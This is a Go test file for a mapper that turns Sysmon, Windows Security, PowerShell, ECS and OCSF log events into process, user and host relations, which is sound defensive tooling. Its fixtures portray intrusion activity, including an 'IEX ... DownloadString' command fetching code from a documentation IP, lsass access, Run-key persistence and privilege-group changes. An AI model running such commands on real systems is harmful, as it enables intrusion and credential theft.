package schema_test

import (
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mdrkit/mdr"
	"github.com/mdrkit/mdr/reader"
	"github.com/mdrkit/mdr/schema"
)

const (
	sysmonCh   = "Microsoft-Windows-Sysmon/Operational"
	securityCh = "Security"
)

// win builds a Windows event as the EVTX-to-JSON exports write it: EventID
// an int, System fields, then EventData fields as strings.
func win(channel, provider string, id int64, kv ...string) *mdr.Event {
	fs := []mdr.Field{
		{Key: "EventID", Value: mdr.Int(id)},
		{Key: "Channel", Value: mdr.String(channel)},
		{Key: "Provider_Name", Value: mdr.String(provider)},
		{Key: "Computer", Value: mdr.String("WS-042.corp.example")},
		{Key: "TimeCreated", Value: mdr.String("2026-03-02T09:14:03.1234567Z")},
		{Key: "_id", Value: mdr.String(fmt.Sprintf("t:%d", id))},
	}
	for i := 0; i+1 < len(kv); i += 2 {
		fs = append(fs, mdr.Field{Key: kv[i], Value: mdr.String(kv[i+1])})
	}
	return mdr.NewEvent(mdr.Origin{Source: "test", Line: 1}, fs...)
}

func sysmon(id int64, kv ...string) *mdr.Event {
	return win(sysmonCh, "Microsoft-Windows-Sysmon", id, kv...)
}

func security(id int64, kv ...string) *mdr.Event {
	return win(securityCh, "Microsoft-Windows-Security-Auditing", id, kv...)
}

// rels renders a result's relations as "kind from -> to".
func rels(r *schema.Result) []string {
	out := make([]string, len(r.Relations))
	for i, x := range r.Relations {
		out[i] = x.Kind.String() + " " + x.From + " -> " + x.To
	}
	return out
}

const (
	hostID   = `host:ws-042.corp.example`
	psGUID   = "{A1B2C3D4-0001-0000-0000-000000000042}"
	psID     = "process:a1b2c3d4-0001-0000-0000-000000000042"
	wordGUID = "{A1B2C3D4-0001-0000-0000-000000000041}"
	wordID   = "process:a1b2c3d4-0001-0000-0000-000000000041"
	psImage  = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
)

type mapCase struct {
	name    string
	ev      *mdr.Event
	dialect schema.Dialect
	want    []string // relations that must be present
	ents    []string // entity ids that must be present
	attrs   map[string]string
}

func runCases(t *testing.T, cases []mapCase) {
	t.Helper()
	var m schema.Mapper
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var r schema.Result
			if err := m.Map(c.ev, &r); err != nil {
				t.Fatalf("Map: %v", err)
			}
			if r.Dialect != c.dialect {
				t.Fatalf("dialect %s, want %s", r.Dialect, c.dialect)
			}
			if !r.Supported {
				t.Fatalf("not supported")
			}
			got := rels(&r)
			for _, w := range c.want {
				if !slices.Contains(got, w) {
					t.Errorf("missing relation %q\n got %q", w, got)
				}
			}
			for _, id := range c.ents {
				if _, ok := r.Entity(id); !ok {
					t.Errorf("missing entity %q", id)
				}
			}
			for k, v := range c.attrs {
				found := false
				for _, x := range r.Relations {
					if x.Attrs[k] == v {
						found = true
					}
				}
				for _, x := range r.Entities {
					if x.Attrs[k] == v {
						found = true
					}
				}
				if !found {
					t.Errorf("no relation or entity has %s=%q", k, v)
				}
			}
		})
	}
}

func TestSysmon(t *testing.T) {
	actor := []string{"ProcessGuid", psGUID, "ProcessId", "4312", "Image", psImage, "User", `CORP\alice`, "UtcTime", "2026-03-02 09:14:03.120"}
	with := func(kv ...string) []string { return append(append([]string{}, actor...), kv...) }
	lsass := "process:a1b2c3d4-0001-0000-0000-000000000007"
	runCases(t, []mapCase{
		{name: "1 process creation", dialect: schema.DialectSysmon,
			ev: sysmon(1, with("CommandLine", "powershell.exe -enc SQBFAFgA", "CurrentDirectory", `C:\Users\alice\`,
				"ParentProcessGuid", wordGUID, "ParentProcessId", "2200", "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				"ParentCommandLine", `"WINWORD.EXE" /n invoice.docm`, "ParentUser", `CORP\alice`, "IntegrityLevel", "Medium")...),
			want: []string{"spawned " + wordID + " -> " + psID, "ran_on " + psID + " -> " + hostID, `ran_as ` + psID + ` -> user:corp\alice`,
				"executed " + psID + ` -> file:ws-042.corp.example\c:\windows\system32\windowspowershell\v1.0\powershell.exe`},
			attrs: map[string]string{"command_line": "powershell.exe -enc SQBFAFgA", "start_time": "2026-03-02T09:14:03.12Z", "integrity_level": "Medium"}},
		{name: "3 network connection", dialect: schema.DialectSysmon,
			ev: sysmon(3, with("Protocol", "tcp", "Initiated", "true", "SourceIp", "10.1.4.42", "SourcePort", "50412",
				"DestinationIp", "203.0.113.80", "DestinationPort", "443", "DestinationHostname", "-")...),
			want: []string{"connected " + psID + " -> ip:203.0.113.80:443"}, attrs: map[string]string{"direction": "outbound", "protocol": "tcp"}},
		{name: "3 inbound", dialect: schema.DialectSysmon,
			ev: sysmon(3, with("Protocol", "tcp", "Initiated", "false", "SourceIp", "10.1.9.9", "SourcePort", "50000",
				"DestinationIp", "10.1.4.42", "DestinationPort", "445")...),
			want: []string{"connected " + psID + " -> ip:10.1.9.9:50000"}, attrs: map[string]string{"direction": "inbound", "local_port": "445"}},
		{name: "3 ipv6", dialect: schema.DialectSysmon,
			ev:   sysmon(3, with("DestinationIp", "FE80::1", "DestinationPort", "80")...),
			want: []string{"connected " + psID + " -> ip:[fe80::1]:80"}},
		{name: "5 terminated", dialect: schema.DialectSysmon, ev: sysmon(5, actor...),
			want: []string{"terminated " + psID + " -> " + hostID}},
		{name: "7 image loaded", dialect: schema.DialectSysmon,
			ev:   sysmon(7, with("ImageLoaded", `C:\Windows\System32\samlib.dll`, "Signed", "true")...),
			want: []string{"loaded_image " + psID + ` -> file:ws-042.corp.example\c:\windows\system32\samlib.dll`}},
		{name: "8 remote thread", dialect: schema.DialectSysmon,
			ev: sysmon(8, "SourceProcessGuid", psGUID, "SourceProcessId", "4312", "SourceImage", psImage,
				"TargetProcessGuid", "{A1B2C3D4-0001-0000-0000-000000000007}", "TargetProcessId", "700", "TargetImage", `C:\Windows\System32\lsass.exe`,
				"StartAddress", "0x7FF6A1B20000"),
			want: []string{"created_remote_thread " + psID + " -> " + lsass}},
		{name: "10 process access (GUID spelt GUID, lower case)", dialect: schema.DialectSysmon,
			ev: sysmon(10, "SourceProcessGUID", strings.ToLower(psGUID), "SourceProcessId", "4312", "SourceImage", psImage,
				"TargetProcessGUID", "{A1B2C3D4-0001-0000-0000-000000000007}", "TargetProcessId", "700", "TargetImage", `C:\Windows\System32\lsass.exe`,
				"GrantedAccess", "0x1010", "SourceUser", `CORP\alice`, "TargetUser", `NT AUTHORITY\SYSTEM`),
			want:  []string{"opened_process " + psID + " -> " + lsass, "ran_as " + lsass + ` -> user:nt authority\system`},
			attrs: map[string]string{"granted_access": "0x1010"}},
		{name: "11 file create", dialect: schema.DialectSysmon,
			ev:   sysmon(11, with("TargetFilename", `C:\Users\alice\AppData\Local\Temp\UPD.exe`)...),
			want: []string{"wrote_file " + psID + ` -> file:ws-042.corp.example\c:\users\alice\appdata\local\temp\upd.exe`}},
		{name: "12 registry delete", dialect: schema.DialectSysmon,
			ev:   sysmon(12, with("EventType", "DeleteKey", "TargetObject", `HKLM\SOFTWARE\Foo`)...),
			want: []string{"deleted_registry " + psID + ` -> reg:HKLM\software\foo`}},
		{name: "12 registry create", dialect: schema.DialectSysmon,
			ev:   sysmon(12, with("EventType", "CreateKey", "TargetObject", `HKU\S-1-5-21-1\Software\Foo`)...),
			want: []string{"set_registry " + psID + ` -> reg:HKU\s-1-5-21-1\software\foo`}},
		{name: "13 registry value set", dialect: schema.DialectSysmon,
			ev: sysmon(13, with("EventType", "SetValue", "TargetObject", `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
				"Details", `C:\Users\alice\AppData\Local\Temp\upd.exe`)...),
			want:  []string{"set_registry " + psID + ` -> reg:HKU\s-1-5-21-1\software\microsoft\windows\currentversion\run\updater`},
			attrs: map[string]string{"details": `C:\Users\alice\AppData\Local\Temp\upd.exe`}},
		{name: "14 registry rename", dialect: schema.DialectSysmon,
			ev:   sysmon(14, with("EventType", "RenameKey", "TargetObject", `HKLM\SOFTWARE\Old`, "NewName", `HKLM\SOFTWARE\New`)...),
			want: []string{"renamed_registry " + psID + ` -> reg:HKLM\software\new`}, ents: []string{`reg:HKLM\software\old`}},
		{name: "15 stream hash", dialect: schema.DialectSysmon,
			ev:   sysmon(15, with("TargetFilename", `C:\Users\alice\Downloads\invoice.docm`, "Hash", "SHA256=00")...),
			want: []string{"wrote_file " + psID + ` -> file:ws-042.corp.example\c:\users\alice\downloads\invoice.docm`}, attrs: map[string]string{"stream": "true"}},
		{name: "17 pipe created", dialect: schema.DialectSysmon, ev: sysmon(17, with("PipeName", `\MSSE-1234-server`)...),
			want: []string{"created_pipe " + psID + ` -> pipe:ws-042.corp.example\msse-1234-server`}},
		{name: "18 pipe connected", dialect: schema.DialectSysmon, ev: sysmon(18, with("PipeName", `\lsarpc`)...),
			want: []string{"connected_pipe " + psID + ` -> pipe:ws-042.corp.example\lsarpc`}},
		{name: "22 dns", dialect: schema.DialectSysmon,
			ev:   sysmon(22, with("QueryName", "CDN.Example-Bad.net.", "QueryStatus", "0", "QueryResults", "::ffff:203.0.113.80;")...),
			want: []string{"resolved " + psID + " -> domain:cdn.example-bad.net"}},
		{name: "23 file delete archived", dialect: schema.DialectSysmon,
			ev:   sysmon(23, with("TargetFilename", `C:\Users\alice\AppData\Local\Temp\upd.exe`, "Archived", "true")...),
			want: []string{"deleted_file " + psID + ` -> file:ws-042.corp.example\c:\users\alice\appdata\local\temp\upd.exe`}, attrs: map[string]string{"archived": "true"}},
		{name: "25 tampering", dialect: schema.DialectSysmon, ev: sysmon(25, with("Type", "Image is replaced")...),
			want: []string{"tampered " + psID + ` -> file:ws-042.corp.example\c:\windows\system32\windowspowershell\v1.0\powershell.exe`}},
		{name: "26 file delete detected", dialect: schema.DialectSysmon,
			ev:   sysmon(26, with("TargetFilename", `C:\Temp\a.txt`)...),
			want: []string{"deleted_file " + psID + ` -> file:ws-042.corp.example\c:\temp\a.txt`}},
		{name: "linux sysmon 1", dialect: schema.DialectSysmon,
			ev: win("Linux-Sysmon/Operational", "Linux-Sysmon", 1, "ProcessGuid", "{94325212-fc0e-627b-4804-97a36d550000}", "ProcessId", "17794",
				"Image", "/bin/bash", "CommandLine", "bash -i", "User", "tomcat", "ParentProcessGuid", "{94325212-fc0d-627b-4874-61f901560000}",
				"ParentProcessId", "17790", "ParentImage", "/usr/bin/java"),
			want: []string{"spawned process:94325212-fc0d-627b-4874-61f901560000 -> process:94325212-fc0e-627b-4804-97a36d550000",
				"executed process:94325212-fc0e-627b-4804-97a36d550000 -> file:ws-042.corp.example:/bin/bash",
				`ran_as process:94325212-fc0e-627b-4804-97a36d550000 -> user:ws-042.corp.example\tomcat`}},
	})
}

func TestSecurity(t *testing.T) {
	subj := []string{"SubjectUserSid", "S-1-5-21-1-1104", "SubjectUserName", "alice", "SubjectDomainName", "CORP", "SubjectLogonId", "0x3e8a1"}
	with := func(kv ...string) []string { return append(append([]string{}, subj...), kv...) }
	runCases(t, []mapCase{
		{name: "4624 network logon", dialect: schema.DialectSecurity,
			ev: security(4624, "SubjectUserSid", "S-1-0-0", "SubjectUserName", "-", "SubjectDomainName", "-",
				"TargetUserSid", "S-1-5-21-1-1104", "TargetUserName", "alice", "TargetDomainName", "CORP", "TargetLogonId", "0x5f1a2",
				"LogonType", "3", "LogonProcessName", "NtLmSsp ", "AuthenticationPackageName", "NTLM", "WorkstationName", "WS-017",
				"ProcessId", "0x0", "ProcessName", "-", "IpAddress", "10.1.4.17", "IpPort", "50123"),
			want:  []string{`logged_on user:corp\alice -> ` + hostID},
			ents:  []string{"ip:10.1.4.17"},
			attrs: map[string]string{"logon_type": "3", "source_ip": "10.1.4.17", "logon_process": "NtLmSsp"}},
		{name: "4625 failed logon", dialect: schema.DialectSecurity,
			ev: security(4625, "TargetUserSid", "S-1-0-0", "TargetUserName", "Administrator", "TargetDomainName", "CORP",
				"Status", "0xc000006d", "SubStatus", "0xc000006a", "LogonType", "3", "IpAddress", "10.1.4.17"),
			want: []string{`logon_failed user:corp\administrator -> ` + hostID}, attrs: map[string]string{"sub_status": "0xc000006a"}},
		{name: "4634 logoff", dialect: schema.DialectSecurity,
			ev:   security(4634, "TargetUserSid", "S-1-5-21-1-1104", "TargetUserName", "alice", "TargetDomainName", "CORP", "LogonType", "3"),
			want: []string{`logged_off user:corp\alice -> ` + hostID}},
		{name: "4648 explicit credentials", dialect: schema.DialectSecurity,
			ev: security(4648, with("TargetUserName", "svc_admin", "TargetDomainName", "CORP", "TargetServerName", "SRV-FILE01.corp.example",
				"TargetInfo", "SRV-FILE01.corp.example", "ProcessId", "0x10d8", "ProcessName", psImage, "IpAddress", "-")...),
			want: []string{`used_credentials process:ws-042.corp.example:4312 -> user:corp\svc_admin`,
				`ran_as process:ws-042.corp.example:4312 -> user:corp\alice`},
			ents: []string{"host:srv-file01.corp.example"}},
		{name: "4656 handle to lsass", dialect: schema.DialectSecurity,
			ev: security(4656, with("ObjectServer", "Security", "ObjectType", "Process", "ObjectName", `\Device\HarddiskVolume2\Windows\System32\lsass.exe`,
				"AccessMask", "0x1010", "ProcessId", "0x10d8", "ProcessName", psImage)...),
			want:  []string{`accessed_object process:ws-042.corp.example:4312 -> file:ws-042.corp.example\\device\harddiskvolume2\windows\system32\lsass.exe`},
			attrs: map[string]string{"access_mask": "0x1010", "object_type": "Process"}},
		{name: "4663 registry object", dialect: schema.DialectSecurity,
			ev: security(4663, with("ObjectType", "Key", "ObjectName", `\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\evil`,
				"AccessMask", "0x2", "ProcessId", "0x1f4", "ProcessName", `C:\Windows\System32\services.exe`)...),
			want: []string{`accessed_object process:ws-042.corp.example:500 -> reg:HKLM\system\currentcontrolset\services\evil`}},
		{name: "4672 special privileges", dialect: schema.DialectSecurity,
			ev:    security(4672, with("PrivilegeList", "SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege")...),
			want:  []string{`granted_privileges user:corp\alice -> ` + hostID},
			attrs: map[string]string{"privileges": "SeDebugPrivilege SeBackupPrivilege"}},
		{name: "4688 hex pids", dialect: schema.DialectSecurity,
			ev: security(4688, with("NewProcessId", "0x1a2b", "NewProcessName", `C:\Users\alice\AppData\Local\Temp\upd.exe`,
				"ProcessId", "0x10d8", "ParentProcessName", psImage, "CommandLine", "upd.exe -q", "TargetUserName", "-")...),
			want: []string{`spawned process:ws-042.corp.example:4312 -> process:ws-042.corp.example:6699@2026-03-02T09:14:03.123Z`,
				`ran_as process:ws-042.corp.example:6699@2026-03-02T09:14:03.123Z -> user:corp\alice`,
				`executed process:ws-042.corp.example:6699@2026-03-02T09:14:03.123Z -> file:ws-042.corp.example\c:\users\alice\appdata\local\temp\upd.exe`}},
		{name: "4697 service", dialect: schema.DialectSecurity,
			ev:    security(4697, with("ServiceName", "WinUpdSvc", "ServiceFileName", `C:\ProgramData\svc\svchost.exe`, "ServiceType", "0x10", "ServiceStartType", "2", "ServiceAccount", "LocalSystem")...),
			want:  []string{`installed_service user:corp\alice -> service:ws-042.corp.example\winupdsvc`},
			attrs: map[string]string{"path": `C:\ProgramData\svc\svchost.exe`}},
		{name: "4698 task", dialect: schema.DialectSecurity,
			ev: security(4698, with("TaskName", `\Microsoft\Windows\UpdateCheck`, "TaskContent",
				"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions Context=\"Author\"><Exec><Command>C:\\ProgramData\\svc\\svchost.exe</Command><Arguments>-k</Arguments></Exec></Actions></Task>")...),
			want:  []string{`created_task user:corp\alice -> task:ws-042.corp.example\microsoft\windows\updatecheck`},
			attrs: map[string]string{"command": `C:\ProgramData\svc\svchost.exe`, "arguments": "-k"}},
		{name: "4720 account created", dialect: schema.DialectSecurity,
			ev:   security(4720, with("TargetUserName", "svc_backup", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-1200", "SamAccountName", "svc_backup")...),
			want: []string{`created_account user:corp\alice -> user:corp\svc_backup`}},
		{name: "4728 global group", dialect: schema.DialectSecurity,
			ev: security(4728, with("MemberName", "CN=svc_backup,OU=Service,DC=corp,DC=example", "MemberSid", "S-1-5-21-1-1200",
				"TargetUserName", "Domain Admins", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-512")...),
			want: []string{`added_to_group user:corp\svc_backup -> group:corp\domain admins`}},
		{name: "4732 local group by SID", dialect: schema.DialectSecurity,
			ev: security(4732, with("MemberName", "-", "MemberSid", "S-1-5-21-1-1200",
				"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544")...),
			want: []string{`added_to_group sid:S-1-5-21-1-1200 -> group:builtin\administrators`}},
		{name: "5140 share", dialect: schema.DialectSecurity,
			ev:   security(5140, with("ObjectType", "File", "IpAddress", "10.1.4.42", "IpPort", "50500", "ShareName", `\\*\ADMIN$`, "ShareLocalPath", `\??\C:\Windows`, "AccessMask", "0x1")...),
			want: []string{`accessed_share user:corp\alice -> share:ws-042.corp.example\admin$`}, ents: []string{"ip:10.1.4.42"}},
		{name: "5145 share object", dialect: schema.DialectSecurity,
			ev:    security(5145, with("ShareName", `\\*\IPC$`, "RelativeTargetName", "svcctl", "IpAddress", "10.1.4.42", "AccessMask", "0x12019F")...),
			want:  []string{`accessed_share user:corp\alice -> share:ws-042.corp.example\ipc$`},
			attrs: map[string]string{"relative_target": "svcctl", "access_mask": "0x12019f"}},
		{name: "5156 connection", dialect: schema.DialectSecurity,
			ev: security(5156, "ProcessID", "4312", "Application", `\device\harddiskvolume2\windows\system32\windowspowershell\v1.0\powershell.exe`,
				"Direction", "%%14593", "SourceAddress", "10.1.4.42", "SourcePort", "50412", "DestAddress", "203.0.113.80", "DestPort", "443", "Protocol", "6"),
			want:  []string{`connected process:ws-042.corp.example:4312 -> ip:203.0.113.80:443`},
			attrs: map[string]string{"direction": "outbound", "protocol": "tcp"}},
		{name: "4733 removed from local group", dialect: schema.DialectSecurity,
			ev: security(4733, with("MemberName", "-", "MemberSid", "S-1-5-21-1-1200",
				"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544")...),
			want: []string{`removed_from_group sid:S-1-5-21-1-1200 -> group:builtin\administrators`}},
		{name: "4726 account deleted", dialect: schema.DialectSecurity,
			ev:   security(4726, with("TargetUserName", "svc_backup", "TargetDomainName", "CORP", "TargetSid", "S-1-5-21-1-1200")...),
			want: []string{`deleted_account user:corp\alice -> user:corp\svc_backup`}},
		{name: "4702 task updated", dialect: schema.DialectSecurity,
			ev:    security(4702, with("TaskName", `\Upd`, "TaskContentNew", "<Task><Exec><Command>evil.exe</Command></Exec></Task>")...),
			want:  []string{`created_task user:corp\alice -> task:ws-042.corp.example\upd`},
			attrs: map[string]string{"action": "updated", "command": "evil.exe"}},
		{name: "4769 service ticket, user@REALM, RC4", dialect: schema.DialectSecurity,
			ev: security(4769, "TargetUserName", "alice@CORP.EXAMPLE", "TargetDomainName", "CORP.EXAMPLE", "ServiceName", "MSSQLSvc",
				"TicketEncryptionType", "0x17", "IpAddress", "::ffff:10.1.4.42", "Status", "0x0"),
			want:  []string{`authenticated user:corp.example\alice -> ` + hostID},
			ents:  []string{"ip:10.1.4.42"},
			attrs: map[string]string{"ticket_encryption": "0x17", "protocol": "kerberos", "service": "MSSQLSvc"}},
		{name: "4771 pre-auth failed, realm from krbtgt", dialect: schema.DialectSecurity,
			ev: security(4771, "TargetUserName", "Administrator", "TargetSid", "S-1-5-21-1-500", "ServiceName", "krbtgt/CORP.EXAMPLE",
				"Status", "0x18", "IpAddress", "10.1.4.42"),
			want: []string{`authenticated user:corp.example\administrator -> ` + hostID}, attrs: map[string]string{"status": "0x18"}},
		{name: "4776 NTLM", dialect: schema.DialectSecurity,
			ev:    security(4776, "PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName", "Administrator", "Workstation", "WS-017", "Status", "0xc000006a"),
			want:  []string{`authenticated user:administrator -> ` + hostID},
			attrs: map[string]string{"protocol": "ntlm", "workstation": "WS-017"}},
		{name: "4657 registry value", dialect: schema.DialectSecurity,
			ev: security(4657, with("ObjectName", `\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "ObjectValueName", "Upd",
				"OperationType", "%%1904", "NewValue", `C:\x.exe`, "ProcessId", "0x10d8", "ProcessName", psImage)...),
			want: []string{`set_registry process:ws-042.corp.example:4312 -> reg:HKLM\software\microsoft\windows\currentversion\run\upd`}},
		{name: "1102 log cleared", dialect: schema.DialectSecurity,
			ev:   win("Security", "Microsoft-Windows-Eventlog", 1102, subj...),
			want: []string{`cleared_log user:corp\alice -> ` + hostID}},
		{name: "lower-case channel from a Sentinel export", dialect: schema.DialectSecurity,
			ev:   win("security", "Microsoft-Windows-Security-Auditing", 4624, "TargetUserName", "bob", "TargetDomainName", "CORP", "LogonType", "2"),
			want: []string{`logged_on user:corp\bob -> ` + hostID}},
	})
}

func TestSystemAndPowerShell(t *testing.T) {
	runCases(t, []mapCase{
		{name: "7045 service", dialect: schema.DialectSystem,
			ev: win("System", "Service Control Manager", 7045, "ServiceName", "WinUpdSvc", "ImagePath", `C:\ProgramData\svc\svchost.exe`,
				"ServiceType", "user mode service", "StartType", "auto start", "AccountName", "LocalSystem"),
			want: []string{`installed_service ` + hostID + ` -> service:ws-042.corp.example\winupdsvc`}},
		{name: "4104 script block", dialect: schema.DialectPowerShell,
			ev: win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "MessageNumber", "1", "MessageTotal", "1",
				"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')", "ScriptBlockId", "{0B5C5E0E-1111-2222-3333-444455556666}",
				"Path", "", "Execution_ProcessID", "4312"),
			want: []string{`executed_script process:ws-042.corp.example:4312 -> script:ws-042.corp.example\0b5c5e0e-1111-2222-3333-444455556666`}},
		{name: "800 pipeline (Windows PowerShell)", dialect: schema.DialectPowerShell,
			ev: mdr.NewEvent(mdr.Origin{Source: "t"}, mdr.Field{Key: "EventID", Value: mdr.Int(800)},
				mdr.Field{Key: "Channel", Value: mdr.String("Windows PowerShell")}, mdr.Field{Key: "Computer", Value: mdr.String("WS-042.corp.example")},
				mdr.Field{Key: "Data", Value: mdr.List([]mdr.Value{mdr.String("Get-Process lsass"),
					mdr.String("\tDetailSequence=1\r\n\tHostApplication=powershell.exe -nop\r\n\tUserId=CORP\\alice\r\n")})}),
			want:  []string{"executed_script " + hostID + ` -> script:ws-042.corp.example\h` + fmt.Sprintf("%x", mdr.ContentHash([]byte("Get-Process lsass"), 0))},
			ents:  []string{`user:corp\alice`},
			attrs: map[string]string{"host_application": "powershell.exe -nop", "text": "Get-Process lsass"}},
		{name: "800 with a rendered Message (NXLog/Winlogbeat export)", dialect: schema.DialectPowerShell,
			ev:    win("Windows PowerShell", "PowerShell", 800, "Message", "Pipeline execution details for command line: $d = get-date. \r\n\r\nContext Information: \r\n\tDetailSequence=1\r\n\tUserId=CORP\\alice\r\n\tHostApplication=C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\PowerShell_ISE.exe\r\n\tCommandLine=$d = get-date \r\n"),
			want:  []string{"executed_script " + hostID + ` -> script:ws-042.corp.example\h` + fmt.Sprintf("%x", mdr.ContentHash([]byte("$d = get-date"), 0))},
			attrs: map[string]string{"host_application": `C:\Windows\system32\WindowsPowerShell\v1.0\PowerShell_ISE.exe`}},
		{name: "4105 script block started", dialect: schema.DialectPowerShell,
			ev: win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4105, "ScriptBlockId", "{0B5C5E0E-1111-2222-3333-444455556666}",
				"RunspaceId", "{aaaa}", "Execution_ProcessID", "4312"),
			want: []string{`executed_script process:ws-042.corp.example:4312 -> script:ws-042.corp.example\0b5c5e0e-1111-2222-3333-444455556666`}},
		{name: "4103 module logging", dialect: schema.DialectPowerShell,
			ev: win("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4103,
				"ContextInfo", "        Severity = Informational\r\n        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc SQBFAFgA\r\n        User = CORP\\alice\r\n",
				"Payload", "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"", "Execution_ProcessID", "4312"),
			want: []string{`ran_as process:ws-042.corp.example:4312 -> user:corp\alice`}},
	})
}

// readFile reads a test data file of hand-written events through package
// reader.
func readFile(t *testing.T, path string) []*mdr.Event {
	t.Helper()
	r, err := reader.Open(path, reader.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var evs []*mdr.Event
	for r.Next() {
		evs = append(evs, r.Event())
	}
	if err := r.Err(); err != nil {
		t.Fatal(err)
	}
	return evs
}

func byID(t *testing.T, evs []*mdr.Event, id string) *mdr.Event {
	t.Helper()
	for _, ev := range evs {
		if ev.ID() == id {
			return ev
		}
	}
	t.Fatalf("no event %s", id)
	return nil
}

func TestECS(t *testing.T) {
	evs := readFile(t, "testdata/ecs.ndjson")
	e := func(id string) *mdr.Event { return byID(t, evs, id) }
	ws := "host:ws-042"
	runCases(t, []mapCase{
		{name: "process start", dialect: schema.DialectECS, ev: e("ecs-1"),
			want: []string{"spawned " + wordID + " -> " + psID, "ran_on " + psID + " -> " + ws, `ran_as ` + psID + ` -> user:corp\alice`,
				"executed " + psID + ` -> file:ws-042\c:\windows\system32\windowspowershell\v1.0\powershell.exe`}},
		{name: "network", dialect: schema.DialectECS, ev: e("ecs-2"),
			want: []string{"connected " + psID + " -> ip:203.0.113.80:443"}, attrs: map[string]string{"protocol": "tcp", "remote_hostname": "cdn.example-bad.net"}},
		{name: "dns", dialect: schema.DialectECS, ev: e("ecs-3"), want: []string{"resolved " + psID + " -> domain:cdn.example-bad.net"}},
		{name: "file creation", dialect: schema.DialectECS, ev: e("ecs-4"),
			want: []string{"wrote_file " + psID + ` -> file:ws-042\c:\users\alice\appdata\local\temp\upd.exe`}},
		{name: "registry", dialect: schema.DialectECS, ev: e("ecs-5"),
			want: []string{"set_registry " + psID + ` -> reg:HKCU\software\microsoft\windows\currentversion\run\updater`}},
		{name: "logon", dialect: schema.DialectECS, ev: e("ecs-6"), want: []string{`logged_on user:corp\alice -> host:srv-file01`},
			attrs: map[string]string{"logon_type": "Network", "source_ip": "10.1.4.42"}},
		{name: "failed logon", dialect: schema.DialectECS, ev: e("ecs-7"), want: []string{`logon_failed user:corp\administrator -> host:srv-file01`}},
		{name: "process end", dialect: schema.DialectECS, ev: e("ecs-8"), want: []string{"terminated " + psID + " -> " + ws}},
		{name: "library", dialect: schema.DialectECS, ev: e("ecs-9"),
			want: []string{`loaded_image process:a1b2c3d4-0001-0000-0000-000000000043 -> file:ws-042\c:\users\alice\appdata\local\temp\x.dll`}},
		{name: "linux deletion, pid + start identity", dialect: schema.DialectECS, ev: e("ecs-10"),
			want:  []string{"deleted_file process:web01:1774@2026-03-02T08:00:00.000Z -> file:web01:/tmp/.x"},
			attrs: map[string]string{"command_line": "rm -f /tmp/.x"}},
		{name: "iam user created", dialect: schema.DialectECS, ev: e("ecs-11"), want: []string{`created_account user:corp\admin2 -> user:corp\svc_backup`}},
		{name: "iam group add", dialect: schema.DialectECS, ev: e("ecs-12"), want: []string{`added_to_group user:corp\svc_backup -> group:corp\domain admins`}},
		{name: "flat dotted keys, event.category a string", dialect: schema.DialectECS, ev: e("ecs-13"),
			want: []string{"spawned " + psID + " -> process:a1b2c3d4-0001-0000-0000-000000000060", `ran_as process:a1b2c3d4-0001-0000-0000-000000000060 -> user:corp\alice`}},
	})
}

func TestOCSF(t *testing.T) {
	evs := readFile(t, "testdata/ocsf.ndjson")
	e := func(id string) *mdr.Event { return byID(t, evs, id) }
	runCases(t, []mapCase{
		{name: "process launch", dialect: schema.DialectOCSF, ev: e("ocsf-1"),
			want:  []string{"spawned " + wordID + " -> " + psID, `ran_as ` + psID + ` -> user:corp\alice`, "ran_on " + psID + " -> host:ws-042"},
			attrs: map[string]string{"command_line": "powershell.exe -nop -w hidden -c whoami"}},
		{name: "file create", dialect: schema.DialectOCSF, ev: e("ocsf-2"),
			want: []string{"wrote_file " + psID + ` -> file:ws-042\c:\users\alice\appdata\local\temp\upd.exe`}},
		{name: "file rename", dialect: schema.DialectOCSF, ev: e("ocsf-3"),
			want: []string{"renamed_file " + psID + ` -> file:ws-042\c:\programdata\svc\svchost.exe`}},
		{name: "file delete, pid + created_time identity", dialect: schema.DialectOCSF, ev: e("ocsf-4"),
			want: []string{"deleted_file process:web01:1774@2026-03-02T08:00:00.000Z -> file:web01:/tmp/.x"}},
		{name: "network open", dialect: schema.DialectOCSF, ev: e("ocsf-5"),
			want: []string{"connected " + psID + " -> ip:203.0.113.80:443"}, attrs: map[string]string{"direction": "outbound"}},
		{name: "authentication", dialect: schema.DialectOCSF, ev: e("ocsf-6"), want: []string{`logged_on user:corp\alice -> host:srv-file01`},
			attrs: map[string]string{"logon_type": "Network", "auth_protocol": "NTLM"}},
		{name: "authentication failure", dialect: schema.DialectOCSF, ev: e("ocsf-7"), want: []string{`logon_failed user:corp\administrator -> host:srv-file01`}},
		{name: "process open", dialect: schema.DialectOCSF, ev: e("ocsf-8"),
			want:  []string{"opened_process process:a1b2c3d4-0001-0000-0000-000000000050 -> process:a1b2c3d4-0001-0000-0000-000000000007"},
			attrs: map[string]string{"granted_access": "0x1010"}},
		{name: "dns", dialect: schema.DialectOCSF, ev: e("ocsf-9"), want: []string{"resolved " + psID + " -> domain:cdn.example-bad.net"}},
		{name: "process terminate", dialect: schema.DialectOCSF, ev: e("ocsf-10"), want: []string{"terminated " + psID + " -> host:ws-042"}},
	})
}

